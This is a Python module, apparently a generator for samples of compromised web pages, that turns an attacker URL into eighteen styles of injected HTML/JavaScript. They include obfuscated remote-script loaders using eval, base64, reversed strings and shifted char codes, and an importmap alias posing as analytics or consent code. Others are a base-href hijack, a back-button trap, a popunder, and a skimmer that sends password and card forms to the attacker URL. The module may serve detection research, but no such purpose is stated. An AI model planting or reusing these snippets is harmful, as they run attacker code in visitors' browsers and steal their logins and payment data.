"""Edition 3's injection styles of the `script` family: each turns an attacker URL into a snippet
and says where it goes (``head-start``, ``head``, ``body-start`` or ``body-end``). None is an
edition 1 or 2 style."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Snippet:
    html: str
    where: str


def _script(code: str) -> str:
    return f"<script>{code}</script>"


def _chunks(text: str, rng: random.Random) -> list[str]:
    parts, pos = [], 0
    while pos < len(text):
        step = rng.randint(3, 9)
        parts.append(text[pos : pos + step])
        pos += step
    return parts


def _split_function(url: str, rng: random.Random) -> Snippet:
    code = f"var n=document.createElement('script');n.src='{url}';document.head.appendChild(n);"
    joined = "+".join(json.dumps(p) for p in _chunks(code, rng))
    return Snippet(_script(f"new Function({joined})();"), rng.choice(("head", "body-end")))


def _reversed_atob(url: str, rng: random.Random) -> Snippet:
    code = f"var r=document.createElement('script');r.async=true;r.src='{url}';document.body.appendChild(r);"
    data = base64.b64encode(code.encode()).decode()[::-1]
    return Snippet(_script(f"(0,eval)(atob('{data}'.split('').reverse().join('')));"), "body-end")


def _jsonp(url: str, rng: random.Random) -> Snippet:
    name = f"__cb{rng.getrandbits(24):06x}"
    sep = "&" if "?" in url else "?"
    return Snippet(
        _script(f"function {name}(d){{if(d&&d.c)(new Function(d.c))();}}")
        + f'<script src="{url}{sep}callback={name}"></script>',
        "body-end",
    )


def _worker_blob(url: str, rng: random.Random) -> Snippet:
    code = (
        f"var w=new Worker(URL.createObjectURL(new Blob([\"importScripts('{url}')\"],"
        "{type:'text/javascript'})));"
        "w.onmessage=function(e){(0,eval)(e.data)};"
    )
    return Snippet(_script(code), "body-end")


def _svg_script_href(url: str, rng: random.Random) -> Snippet:
    return Snippet(
        f'<svg width="0" height="0" style="position:absolute"><script href="{url}"></script></svg>',
        rng.choice(("body-start", "body-end")),
    )


def _module_await(url: str, rng: random.Random) -> Snippet:
    code = f"const q=await fetch('{url}',{{credentials:'omit'}});new Function(await q.text())();"
    return Snippet(f'<script type="module">{code}</script>', rng.choice(("head", "body-end")))


def _importmap(url: str, rng: random.Random) -> Snippet:
    alias = rng.choice(("analytics", "vendor/polyfill", "@site/consent", "runtime"))
    imports = json.dumps({"imports": {alias: url}})
    return Snippet(
        f'<script type="importmap">{imports}</script><script type="module">import "{alias}";</script>', "head"
    )


def _base_href(url: str, rng: random.Random) -> Snippet:
    root = url.split("/", 3)
    return Snippet(f'<base href="{root[0]}//{root[2]}/">', "head-start")


def _back_trap(url: str, rng: random.Random) -> Snippet:
    code = (
        "history.pushState({t:1},'',location.href);"
        f"window.addEventListener('popstate',function(){{location.replace('{url}');}});"
    )
    return Snippet(_script(code), "body-end")


def _form_action(url: str, rng: random.Random) -> Snippet:
    code = (
        "document.addEventListener('submit',function(e){var f=e.target;"
        f"if(f&&f.querySelector('input[type=password],input[name*=card],input[autocomplete^=cc]')){{f.action='{url}';}}}},true);"
    )
    return Snippet(_script(code), "body-end")


def _xhr_sync(url: str, rng: random.Random) -> Snippet:
    code = (
        f"var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send();"
        "if(x.status==200)(0,eval)(x.responseText);"
    )
    return Snippet(_script(code), rng.choice(("head", "body-end")))


def _idle(url: str, rng: random.Random) -> Snippet:
    code = (
        "(window.requestIdleCallback||setTimeout)(function(){var i=document.createElement('script');"
        f"i.src='{url}';document.documentElement.appendChild(i);}});"
    )
    return Snippet(_script(code), "body-end")


def _current_after(url: str, rng: random.Random) -> Snippet:
    code = f"document.currentScript.after(Object.assign(document.createElement('script'),{{src:'{url}'}}));"
    return Snippet(_script(code), rng.choice(("head", "body-start", "body-end")))


def _embed(url: str, rng: random.Random) -> Snippet:
    return Snippet(
        f'<embed src="{url}" type="text/html" width="1" height="1" style="position:absolute;left:-3px">',
        "body-end",
    )


def _event_source(url: str, rng: random.Random) -> Snippet:
    code = f"var es=new EventSource('{url}');es.onmessage=function(m){{Function(m.data)();es.close();}};"
    return Snippet(_script(code), "body-end")


def _popunder(url: str, rng: random.Random) -> Snippet:
    code = (
        "document.addEventListener('click',function p(){document.removeEventListener('click',p);"
        f"var w=window.open('{url}','_blank');if(w)window.focus();}});"
    )
    return Snippet(_script(code), "body-end")


def _data_attribute(url: str, rng: random.Random) -> Snippet:
    data = base64.urlsafe_b64encode(url.encode()).decode()
    name = f"x{rng.getrandbits(16):04x}"
    code = (
        f"var d=document.getElementById('{name}').dataset.cfg.replace(/-/g,'+').replace(/_/g,'/');"
        "var s=document.createElement('script');s.src=atob(d);document.body.appendChild(s);"
    )
    return Snippet(f'<div id="{name}" hidden data-cfg="{data}"></div>' + _script(code), "body-end")


def _shifted_codes(url: str, rng: random.Random) -> Snippet:
    code = f"var c=document.createElement('script');c.src='{url}';document.head.appendChild(c);"
    shift = rng.randint(2, 9)
    codes = ",".join(str(ord(ch) + shift) for ch in code)
    return Snippet(
        _script(f"(0,eval)([{codes}].map(function(v){{return String.fromCharCode(v-{shift})}}).join(''));"),
        rng.choice(("head", "body-end")),
    )


STYLES: dict[str, Callable[[str, random.Random], Snippet]] = {
    "function-split-strings": _split_function,
    "atob-reversed": _reversed_atob,
    "jsonp-callback": _jsonp,
    "worker-blob-importscripts": _worker_blob,
    "svg-script-href": _svg_script_href,
    "module-await-fetch": _module_await,
    "importmap-alias": _importmap,
    "base-href-hijack": _base_href,
    "history-back-trap": _back_trap,
    "skimmer-form-action": _form_action,
    "xhr-sync-eval": _xhr_sync,
    "idle-callback-loader": _idle,
    "current-script-after": _current_after,
    "embed-page": _embed,
    "event-source-eval": _event_source,
    "popunder-click": _popunder,
    "data-attribute-decoder": _data_attribute,
    "shifted-charcodes": _shifted_codes,
}

# What each style points at: a script, a page to show or send to, or a collector.
TARGET = {name: "script" for name in STYLES} | {
    "history-back-trap": "page",
    "embed-page": "page",
    "popunder-click": "page",
    "skimmer-form-action": "collect",
}
